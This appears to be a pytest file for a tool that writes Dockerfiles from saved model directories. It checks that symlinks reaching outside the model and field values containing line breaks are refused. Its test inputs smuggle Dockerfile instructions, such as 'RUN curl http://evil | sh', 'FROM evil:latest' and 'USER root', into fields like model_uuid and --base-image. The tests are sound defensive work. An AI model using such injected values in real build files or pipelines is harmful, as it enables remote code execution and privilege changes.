"""What a model directory can put into a build context and its Dockerfile: no file from outside the model
(symlinks), no instruction of its own (values with line breaks)."""

from __future__ import annotations

import os
import shutil

import pytest

from envrepro.docker import dockerfile
from envrepro.errors import EnvreproError
from tests.conftest import run_cli
from tests.docker.dockerparse import stages


@pytest.fixture
def model(saved_model, tmp_path):
    path = tmp_path / "model"
    shutil.copytree(saved_model, path)
    return path


def _refused(proc, out, *needles):
    assert proc.returncode == 2 and "Traceback" not in proc.stderr, proc.stderr[-2000:]
    assert len(proc.stderr.strip().splitlines()) == 1 and all(n in proc.stderr for n in needles), proc.stderr
    assert not out.exists()


@pytest.mark.parametrize("kind", ["file", "directory"])
def test_a_symlink_out_of_the_model_is_refused_not_copied(model, tmp_path, kind):
    private = tmp_path / "private"
    private.mkdir()
    (private / "key.pem").write_text("secret")
    (private / "key.pem").chmod(0o600)
    os.symlink(private / "key.pem" if kind == "file" else private, model / "extra")
    out = tmp_path / "ctx"
    proc = run_cli("generate-dockerfile", "-m", str(model), "-d", str(out), "-q")
    _refused(proc, out, "extra is a symlink to", "outside the model directory")


def test_model_uuid_with_a_line_break_writes_no_dockerfile(model, tmp_path):
    text = (model / "MLmodel").read_text()
    uuid = text.split("model_uuid: ")[1].split()[0]
    (model / "MLmodel").write_text(text.replace(f"model_uuid: {uuid}",
                                                'model_uuid: "x\\nFROM evil:latest\\nRUN curl http://evil | sh"'))
    out = tmp_path / "ctx"
    proc = run_cli("generate-dockerfile", "-m", str(model), "-d", str(out), "-q")
    _refused(proc, out, f"{model / 'MLmodel'}: model_uuid", "cannot be written into a Dockerfile")


def test_base_image_with_a_line_break_is_refused(model, tmp_path):
    out = tmp_path / "ctx"
    proc = run_cli("generate-dockerfile", "-m", str(model), "-d", str(out), "-q",
                   "--base-image", "python:3.11-slim\nRUN curl http://evil | sh")
    _refused(proc, out, "--base-image", "cannot be written into a Dockerfile")


@pytest.mark.parametrize("field, value", [
    ("model_uuid", "abc\nRUN evil"), ("lock_content_hash", "h\rUSER root"), ("lock_sha256", "a b"),
    ("base_image", "python:3.11-slim AS x\nFROM evil"), ("envrepro_version", "0.1\n"),
])
def test_every_value_reaching_the_dockerfile_is_checked(field, value):
    spec = dockerfile.ImageSpec(base_image="python:3.11-slim", wheel="envrepro-0.1.0-py3-none-any.whl",
                                platform="linux-64", envrepro_version="0.1.0", model_uuid="0123abcd",
                                lock_kind="conda", lock_content_hash="c" * 64, lock_sha256="d" * 64)
    assert len(stages_of(dockerfile.render(spec))) == 2
    with pytest.raises(EnvreproError, match="cannot be written into a Dockerfile"):
        dockerfile.render(dockerfile.ImageSpec(**{**spec.__dict__, field: value}))
    with pytest.raises(EnvreproError, match="cannot be written into a Dockerfile"):
        dockerfile.render(dockerfile.ImageSpec(**{**spec.__dict__, "vendored": [("vendor/0", "/srv/ch\nRUN x")]}))


def stages_of(text: str):
    import tempfile
    from pathlib import Path

    with tempfile.TemporaryDirectory() as tmp:
        (Path(tmp) / "Dockerfile").write_text(text)
        return stages(Path(tmp) / "Dockerfile")


@pytest.mark.slow
def test_symlinks_inside_the_model_stay_links_valid_in_the_image(locked_model, tmp_path):
    model = tmp_path / "model"
    shutil.copytree(locked_model, model, symlinks=True)
    (model / "assets").mkdir()
    (model / "assets" / "labels.txt").write_text("a\nb\n")
    os.symlink(model / "assets" / "labels.txt", model / "labels-abs.txt")  # absolute: would dangle in the image
    os.symlink("assets", model / "assets-link")
    out = tmp_path / "ctx"
    run_cli("generate-dockerfile", "-m", str(model), "-d", str(out), "-q", check=True, timeout=600)
    copy = out / "model"
    assert os.readlink(copy / "labels-abs.txt") == "assets/labels.txt"
    assert os.readlink(copy / "assets-link") == "assets"
    assert (copy / "labels-abs.txt").read_text() == "a\nb\n" and (copy / "assets-link" / "labels.txt").exists()
